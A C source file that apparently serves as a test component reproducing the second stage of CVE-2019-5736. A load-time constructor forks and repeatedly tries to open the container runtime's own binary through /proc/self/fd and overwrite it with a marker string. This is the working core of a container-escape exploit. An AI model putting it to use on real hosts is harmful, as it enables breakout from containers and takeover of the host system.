/*
 * A1: the second half of CVE-2019-5736, as a library: made to load into the
 * runtime when that is executed inside, it leaves a process behind that waits
 * until the file can be written.
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static const char mark[] = "overwritten";

__attribute__((constructor)) static void
loaded(void)
{
	char link[64];
	int exe = open("/proc/self/exe", O_RDONLY), fd;

	printf("loaded into the runtime\n");
	fflush(stdout);
	if (exe == -1 || fork() != 0)
		return;
	snprintf(link, sizeof(link), "/proc/self/fd/%d", exe);
	for (int i = 0; i < 100; i++) {
		fd = open(link, O_WRONLY);
		if (fd != -1 && pwrite(fd, mark, sizeof(mark), 0) > 0)
			_exit(1);
		usleep(10000);
	}
	_exit(0);
}
